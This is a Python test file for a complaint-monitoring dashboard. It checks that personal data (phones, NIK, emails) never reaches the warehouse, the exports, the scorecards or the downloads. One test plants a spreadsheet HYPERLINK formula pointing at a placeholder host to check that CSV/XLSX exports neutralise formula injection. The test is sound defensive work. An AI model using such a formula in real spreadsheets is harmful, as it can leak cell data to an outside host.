"""No personal data anywhere a user can read it: every string column of the demo warehouse, the parquet
export, every scorecard (PDF text and XLSX cells) and every CSV/XLSX download of the dashboard are scanned
for phone, NIK and email patterns (``pipelines.ingest.pii.ANY_PII_PATTERN``). The demo's raw exports do
hold such data, so the scans have something to miss. And a formula typed into a complaint title reaches
the dashboard's CSV and XLSX downloads as text."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import duckdb
import openpyxl
import pytest
from pypdf import PdfReader

from dashboard.pages import DATA_PAGES
from pipelines.ingest.pii import ANY_PII_PATTERN, contains_pii, find_pii

APP = str(Path(__file__).resolve().parents[1] / "dashboard" / "app.py")
PII = re.compile(ANY_PII_PATTERN)
PAGES = tuple(p for p in DATA_PAGES if p != "unduh_rapor")  # the registry; the scorecards are scanned on their own
REGISTER_EXPORT = "register-pejabat-penghubung"  # the register itself: the one export that holds contact data


def string_columns(con: duckdb.DuckDBPyConnection) -> list[tuple[str, str, str]]:
    return [tuple(r) for r in con.execute(
        "SELECT c.table_name, c.column_name, c.data_type FROM information_schema.columns c "
        "JOIN information_schema.tables t USING (table_schema, table_name) "
        "WHERE c.data_type IN ('VARCHAR', 'VARCHAR[]') ORDER BY ALL").fetchall()]


def pii_hits(con: duckdb.DuckDBPyConnection, table: str, column: str, dtype: str) -> list[str]:
    expr = f'"{column}"' if dtype == "VARCHAR" else f"array_to_string(\"{column}\", ' | ')"
    return [r[0] for r in con.execute(
        f'SELECT {expr} FROM "{table}" WHERE regexp_matches({expr}, ?) LIMIT 5', [ANY_PII_PATTERN]).fetchall()]


def xlsx_strings(blob: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(blob))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_the_demo_inputs_do_hold_personal_data(demo_data_dir):
    """The control: the raw exports have reporters' phones/emails/NIK, so a clean warehouse means removal."""
    found = set()
    for f in sorted((demo_data_dir / "raw").rglob("*.csv")):
        found.update(find_pii(f.read_text(encoding="utf-8-sig", errors="replace")))
    assert found >= {"phone", "email"}


def test_every_string_column_of_the_warehouse(demo_con):
    cols = string_columns(demo_con)
    tables = {t for t, _, _ in cols}
    assert {"complaints", "quarantine", "warnings", "unmatched_names", "complaint_status_history"} <= tables
    assert len(cols) > 80
    hits = {f"{t}.{c}": h for t, c, d in cols if (h := pii_hits(demo_con, t, c, d))}
    assert hits == {}


def test_the_officers_register_never_reaches_the_warehouse(demo_data_dir, demo_con):
    """The demo seeds an officers' register; the warehouse holds only its facts per OPD, none of its names,
    addresses or numbers (positions are common words; SK numbers are public decrees the evidence names)."""
    from pipelines.officers import list_officers
    from pipelines.settings import Paths

    officers = list_officers(Paths.from_args(demo_data_dir))
    assert len(officers) > 10
    secrets = {v for o in officers for v in (o.name, o.email, o.whatsapp,
                                              o.whatsapp[3:] if o.whatsapp else None) if v}
    found = set()
    for t, c, d in string_columns(demo_con):
        expr = f'"{c}"' if d == "VARCHAR" else f"array_to_string(\"{c}\", ' | ')"
        vals = {r[0] for r in demo_con.execute(f'SELECT DISTINCT {expr} FROM "{t}" WHERE "{c}" IS NOT NULL').fetchall()}
        found |= {s for s in secrets for v in vals if s in str(v)}
    assert found == set()
    cols = {r[0] for r in demo_con.execute(
        "SELECT column_name FROM information_schema.columns WHERE table_name = 'officer_register'").fetchall()}
    assert cols == {"department", "has_officer", "sk_current", "reference_date"}


def test_the_scan_finds_what_it_looks_for(demo_data_dir, tmp_path):
    """The same scan on a copy where one title carries a phone number and one list an email finds both."""
    db = tmp_path / "copy.duckdb"
    shutil.copy(demo_data_dir / "curated" / "monev.duckdb", db)
    con = duckdb.connect(str(db))
    con.execute("UPDATE complaints SET title = 'hubungi 0812-3456-7890' WHERE complaint_key = "
                "(SELECT min(complaint_key) FROM complaints)")
    con.execute("UPDATE unmatched_names SET suggestions = ['a@contoh.go.id'] WHERE raw_value = "
                "(SELECT min(raw_value) FROM unmatched_names)")
    hits = {f"{t}.{c}" for t, c, d in string_columns(con) if pii_hits(con, t, c, d)}
    con.close()
    assert hits == {"complaints.title", "unmatched_names.suggestions"}


def test_the_parquet_export(demo_con, tmp_path):
    from pipelines.export import export_parquet

    export_parquet(demo_con, tmp_path / "pq")
    files = sorted((tmp_path / "pq").rglob("*.parquet"))
    assert files
    con = duckdb.connect()
    scanned = 0
    for f in files:
        desc = con.execute("DESCRIBE SELECT * FROM read_parquet(?)", [str(f)]).fetchall()
        for name, dtype, *_ in desc:
            if dtype in ("VARCHAR", "VARCHAR[]"):
                expr = f'"{name}"' if dtype == "VARCHAR" else f"array_to_string(\"{name}\", ' | ')"
                n = con.execute(f"SELECT count(*) FROM read_parquet(?) WHERE regexp_matches({expr}, ?)",
                                [str(f), ANY_PII_PATTERN]).fetchone()[0]
                assert n == 0, (f.name, name)
                scanned += 1
    assert scanned > 50


@pytest.mark.slow
def test_every_scorecard(demo_con):
    from pipelines.scorecard import all_departments, generate

    deps = all_departments(demo_con)
    # every unit's workbook; the PDF (slower: charts) of the city and the two OPD with the most complaints
    produced = list(generate(demo_con, "2026", departments=deps, city=True, formats=("xlsx",)))
    busiest = [r[0] for r in demo_con.execute(
        "SELECT department FROM complaints WHERE department IS NOT NULL GROUP BY ALL ORDER BY count(*) DESC, 1 "
        "LIMIT 2").fetchall()]
    produced += list(generate(demo_con, "2026", departments=busiest, city=True, formats=("pdf",)))
    assert len(produced) == len(deps) + 1 + 3
    for p, blob in produced:
        if p.format == "pdf":
            text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(blob)).pages)
            assert text.strip() and not contains_pii(text), (p.name, find_pii(text))
        else:
            strings = xlsx_strings(blob)
            assert strings and not [s for s in strings if contains_pii(s)], p.name


# ---------------------------------------------------------------- the dashboard's downloads


def visit_every_page(data_dir: Path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("MONEV_DATA_DIR", str(data_dir))
    monkeypatch.setenv("MONEV_DASHBOARD_DEMO", "1")
    at = AppTest.from_file(APP, default_timeout=180)
    at.query_params.update({"periode": "2025"})  # a whole year of the demo
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    for page in PAGES:
        at.switch_page(f"app_pages/{page}.py").run()
        assert not at.exception, (page, [e.value for e in at.exception])
        assert not at.error, (page, [e.value for e in at.error])
        if page == "kinerja_opd":  # the drill-down's complaint list
            at.selectbox(key="opd.drill").set_value(at.selectbox(key="opd.drill").options[0]).run()
    return at


def csv_cells(blob: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(blob.decode("utf-8-sig"))))


DECIMAL = re.compile(r"^-?[0-9]+\.[0-9]+(?:e-?[0-9]+)?$")


def text_cell(c: str) -> bool:
    """A cell that is text, not a number written with a decimal point (16 significant digits of a rate,
    e.g. 78.46153846153845, have the shape of a NIK)."""
    return not DECIMAL.match(c)


def test_every_dashboard_download(demo_data_dir, tmp_path, monkeypatch, captured_downloads):
    d = tmp_path / "data"  # the demo's warehouse and runs, its own app-state store (the demo stays untouched)
    d.mkdir()
    for sub in ("curated", "runs"):
        (d / sub).symlink_to(demo_data_dir / sub, target_is_directory=True)
    from pipelines.officers import add_officer
    from pipelines.settings import Paths

    add_officer(Paths.from_args(d), "Dinas Perhubungan", name="Budi Santoso", position="Kasubbag Umum",
                email="budi.santoso@dishub.test", whatsapp="0812-3456-7890", sk_number="188/1/2026",
                sk_date="2026-01-05", by="test")
    visit_every_page(d, monkeypatch)
    names = [n for n, _ in captured_downloads]
    assert sum(n.endswith(".csv") for n in names) >= 10 and sum(n.endswith(".xlsx") for n in names) >= 10
    register = [blob for n, blob in captured_downloads if n.startswith(REGISTER_EXPORT) and n.endswith(".csv")]
    assert register and contains_pii(register[0].decode("utf-8-sig"))  # the scan would see contact data
    with_titles = 0
    for name, blob in captured_downloads:
        if name.startswith(REGISTER_EXPORT):
            continue
        if name.endswith(".csv"):
            rows = csv_cells(blob)
            with_titles += any("Judul" in h for h in rows[0]) if rows else 0
            bad = [c for r in rows for c in r if text_cell(c) and contains_pii(c)]
        elif name.endswith(".xlsx"):
            bad = [s for s in xlsx_strings(blob) if contains_pii(s)]
        elif name.endswith(".pdf") and name.startswith(("daftar-kerja", "ringkasan-pengaduan")):
            bad = find_pii(" ".join(pg.extract_text() for pg in PdfReader(io.BytesIO(blob)).pages))
        else:
            continue
        assert bad == [], (name, bad[:3])
    assert any(n.startswith("daftar-kerja") and n.endswith(".pdf") for n in names)
    assert with_titles >= 1  # complaint lists (with their redacted titles) were among them


def test_formula_in_a_complaint_title_stays_text_in_downloads(demo_data_dir, tmp_path, monkeypatch, captured_downloads):
    """A title written as a spreadsheet formula reaches the complaint lists' CSV and XLSX downloads as text."""
    d = tmp_path / "data"
    (d / "curated").mkdir(parents=True)
    shutil.copy(demo_data_dir / "curated" / "monev.duckdb", d / "curated" / "monev.duckdb")
    formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")'
    con = duckdb.connect(str(d / "curated" / "monev.duckdb"))
    ids = [r[0] for r in con.execute("SELECT source_id FROM complaints WHERE title IS NOT NULL").fetchall()]
    con.execute("UPDATE complaints SET title = ?", [formula])  # every title, so whichever rows a list shows
    con.close()
    visit_every_page(d, monkeypatch)
    csv_hits = xlsx_hits = 0
    for name, blob in captured_downloads:
        if name.endswith(".csv"):
            cells = [c for r in csv_cells(blob) for c in r]
            assert formula not in cells, name  # never the bare formula
            csv_hits += cells.count("'" + formula)
        elif name.endswith(".xlsx"):
            wb = openpyxl.load_workbook(io.BytesIO(blob))
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        if isinstance(c.value, str) and "HYPERLINK" in c.value:
                            assert c.data_type == "s" and c.value == "'" + formula, (name, c.value)
                            xlsx_hits += 1
    assert ids and csv_hits > 0 and xlsx_hits > 0
